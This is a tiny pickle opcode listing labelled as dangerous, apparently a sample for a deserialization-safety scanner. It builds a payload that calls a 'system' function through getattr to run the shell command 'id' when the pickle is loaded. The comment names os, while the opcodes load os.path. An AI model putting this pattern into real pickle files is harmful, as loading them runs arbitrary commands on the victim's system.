# dangerous: getattr(os, "system")
PROTO 4
GLOBAL builtins getattr
GLOBAL os path
SHORT_BINUNICODE "system"
TUPLE2
REDUCE
SHORT_BINUNICODE "id"
TUPLE1
REDUCE
STOP
